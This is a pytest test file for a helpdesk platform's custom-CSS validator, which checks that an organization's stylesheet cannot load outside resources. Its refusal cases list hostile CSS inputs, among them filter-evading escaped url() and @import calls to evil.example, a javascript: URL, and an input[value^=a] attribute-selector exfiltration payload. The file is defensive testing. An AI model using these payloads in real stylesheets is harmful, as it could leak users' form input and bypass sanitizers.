"""What an organization's stylesheet may hold (Specification: PATCH /site/appearance, Custom CSS)."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpdesk.platform.errors import InvalidRequest
from helpdesk.site import custom_css

GOOD = """
/* our own */
:root { --accent: #0a7c66; --measure: 60ch }
.prose > p::first-letter { font: 700 2rem/1 "Iowan Old Style", serif }
@media (min-width: 60rem) and (prefers-color-scheme: dark) { .folders { display: none } }
@font-face { font-family: Own; src: url("data:font/woff2;base64,d09GMg==") format("woff2") }
.brand { background: url(data:image/png;base64,iVBORw0KGgo=) no-repeat; mask: url(#logo); content: "\\201C" }
@supports (color: oklch(50% 0.1 200)) { a { color: oklch(50% 0.1 200) } }
"""


def test_a_stylesheet_is_served_without_its_comments() -> None:
    served = custom_css.checked(GOOD)
    assert "our own" not in served
    assert "--measure: 60ch" in served
    assert "@media (min-width: 60rem)" in served
    assert custom_css.checked(served) == served


@pytest.mark.parametrize(
    ("css", "what"),
    [
        ("@import 'https://evil.example/x.css';", "@import"),
        ("a{}\n@IMPORT url(x.css);", "line 2"),
        ("@im\\70ort 'x';", "@import"),
        ("@media print { @import 'x'; }", "@import"),
        ("@namespace url(http://www.w3.org/1999/xhtml);", "@namespace"),
        ("@document url(https://a.example/) { a { color: red } }", "@document"),
        ("a { background: url(https://evil.example/p) }", "url()"),
        ("a { background: url('https://evil.example/p') }", "url()"),
        ("a { background: u\\72l(//evil.example/p) }", "url()"),
        ("a { background: URL( '\\68ttps://evil.example' ) }", "url()"),
        ("a { background: url(/site/other/file) }", "url()"),
        ("a { background: url() }", "url()"),
        ("a { background: url(data:text/html,x) }", "url()"),
        ("a { background: url(javascript:alert(1)) }", "can't be parsed"),
        ("a { --x: url(https://evil.example/p); background: var(--x) }", "url()"),
        ("@property --x { syntax: '<url>'; initial-value: url(https://evil.example/) }", "url()"),
        ("a { background: image-set('https://evil.example/p' 1x) }", "image-set()"),
        ("a { background: -webkit-image-set('x' 1x) }", "-webkit-image-set()"),
        ("a { --x: 'https://evil.example/p'; background: image-set(var(--x) 1x) }", "image-set()"),
        ("a { background: src(var(--x)) }", "src()"),
        ("a { background: cross-fade('x', red) }", "cross-fade()"),
        ("input[value^=a] { background: url(https://evil.example/a) }", "url()"),
        ("a { content: 'open\n }", "can't be parsed"),
        ("a { background: url(data:image/png;base64,AA", "can't be parsed"),
        ("a { color: red } }", "can't be parsed"),
        ("(" * 40, "deep"),
        ("{" * 60_000, "deep"),
    ],
)
def test_a_stylesheet_that_could_load_something_is_refused(css: str, what: str) -> None:
    with pytest.raises(InvalidRequest) as refused:
        custom_css.checked(css)
    assert what in refused.value.message
    assert refused.value.message.startswith("`css`")


def test_a_number_that_python_does_not_read_is_refused() -> None:
    with pytest.raises(InvalidRequest, match="number that is too long"):
        custom_css.checked(f"a {{ width: {'1' * 4_301}px }}")


def test_a_stylesheet_has_at_most_60_000_characters() -> None:
    longest = "a{color:red}" * 5_000
    assert custom_css.checked(longest) == longest
    with pytest.raises(InvalidRequest, match="60,000 characters"):
        custom_css.checked(longest + " ")
    with pytest.raises(InvalidRequest, match="60,000 characters"):
        custom_css.checked("é" * 60_001)


@given(st.text(alphabet="ul(r)u\\'\"@import;{}:/*#- \n7245a", max_size=60))
def test_what_is_served_passes_the_check_again(css: str) -> None:
    """Browsers read the text that is served, so it is the one that has to be harmless."""
    try:
        served = custom_css.checked(css)
    except InvalidRequest:
        return
    assert custom_css.checked(served) == served
